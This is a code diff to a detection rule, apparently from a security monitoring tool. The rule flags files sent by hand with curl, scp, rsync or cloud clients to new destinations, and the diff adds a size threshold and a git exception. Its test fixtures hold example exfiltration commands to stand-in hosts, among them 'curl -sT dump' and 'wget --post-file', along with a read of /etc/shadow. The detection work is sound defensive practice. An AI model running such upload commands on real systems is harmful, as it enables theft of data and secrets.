@@ -1,4 +1,4 @@
-"""A person sends much with an HTTP client, such as curl or wget, to a destination that is new for them."""
+"""A person sends a file by hand, with curl, scp or a cloud's client, to a destination new for them."""
 
 from __future__ import annotations
 
@@ -17,14 +17,17 @@ from ..rule import Connections, Correlation, Finding, Parameter, Site, Step, Sto
 from ..session_work import READERS, command, is_foreign, leaving, sender
 
 _BYTES = Parameter("bytes", 100_000, "bytes", "a question with all its headers is under 20 kB, a webhook too")
+_LARGE = Parameter("large", 20_000_000, "bytes", "so much is hardly sent to a stranger by hand: high")
 _CLIENTS = Parameter(
     "clients",
-    "curl wget wget2 aria2c http https httpie xh lftp ftp ncftpput tftp",
+    "curl wget wget2 aria2c http https httpie xh lftp ftp ncftpput tftp ssh scp sftp rsync dbclient pscp "
+    "rclone aws gsutil gcloud azcopy az s3cmd mc b2",
     "program names",
     "what a person sends a file with by hand",
 )
 _WINDOW = Parameter("window", 86_400, "seconds", "what is read to be taken leaves within a day")
 _READERS = Parameter("readers", READERS, "program names", "these read secrets as their duty")
+_GIT = ("git-receive-pack", "git-upload-pack", "git-upload-archive", "git-lfs")
 _FLAGS = {
     "curl": re.compile(
         r"(?:^|\s)(-[a-zA-Z]*[TF]|--upload-file|--form|--data-binary|--data-raw|--data|-d|--json)(?=[\s=@]|$)"
@@ -44,6 +47,8 @@ def _step(state: Outflow, record: Record, site: Site) -> Iterable[Finding]:
     flow = leaving(record, site, site.words(_ID, _CLIENTS))
     if flow is None:
         return ()
+    if any(word in command(flow) for word in _GIT):
+        return ()  # what is pushed is another rule's
     work, _volume, _grown = state.count(record, flow, _how(sender(flow), command(flow)))
     return _judged(state, work, record, site, [flow.remote.ip])
 
@@ -56,7 +61,8 @@ def _judged(
         if volume.out < site.number(_ID, _BYTES) or not is_new(_ID, state, record, volume, site):
             continue
         signs = signs_before(work, volume, site.number(_ID, _WINDOW))
-        severity: Severity | None = "high" if signs else None
+        is_large = volume.out >= site.number(_ID, _LARGE)
+        severity: Severity | None = "high" if signs or is_large else None
         yield moved(record, address, volume, signs=signs, severity=severity)
 
 
@@ -85,6 +91,7 @@ def _sent(count: int, words: str, to: Endpoint = _TO, flow: int = 1) -> Close:
     )
 
 
+_SCP = "ssh -x -l bob 203.0.113.9 -s sftp"
 _CURL = "curl -sT dump https://transfer.example/dump"
 _SHADOW = Read(
     path="/etc/shadow",
@@ -96,19 +103,21 @@ _CRON = SessionOpen(program="cron", user="alice", auid=1000, session=7, pid=40)
 
 CORRELATION = Correlation(
     id=_ID,
-    version=1,
-    title="File sent with an HTTP client to a new destination",
+    version=2,
+    title="File sent by hand to a new destination",
     severity="medium",
     attack=("T1048", "T1567"),
     kinds=(Read, Close, Report),
     state=Outflow,
     step=_step,
-    parameters=(_BYTES, NEW, FORGET, _CLIENTS, _WINDOW, _READERS),
+    parameters=(_BYTES, _LARGE, NEW, FORGET, _CLIENTS, _WINDOW, _READERS),
     connections=_connections,
     hits=(
         Story("curl -T", (Step(0, _sent(3_000_000, _CURL)),)),
         Story("wget --post-file", (Step(0, _sent(400_000, "wget --post-file=/tmp/s.tgz http://x.example")),)),
         Story("no option to see: it stands in .curlrc", (Step(0, _sent(400_000, "curl https://x.example")),)),
+        Story("scp, whose ssh owns the connection", (Step(0, _sent(450_000, _SCP)),)),
+        Story("aws s3 cp", (Step(0, _sent(3_000_000, "aws s3 cp d.tgz s3://other/")),)),
         Story(
             "split into parts, each below the floor",
             tuple(Step(part, _sent(60_000, _CURL, flow=part)) for part in range(3)),
@@ -136,6 +145,8 @@ CORRELATION = Correlation(
             (Step(0, _sent(50_000, _CURL)), Step(7 * _DAY, _sent(3_000_000, _CURL, flow=2))),
         ),
         Story("a timer's upload", (Step(0, _CRON), Step(1, _sent(3_000_000, _CURL)))),
+        Story("keys typed into a session", (Step(0, _sent(30_000, "ssh bob@203.0.113.9")),)),
+        Story("git over ssh is judged as git", (Step(0, _sent(3_000_000, f"ssh git@x {_GIT[0]} 'r.git'")),)),
         Story("another program's upload", (Step(0, _sent(3_000_000, "docker push registry.example/x")),)),
     ),
 )
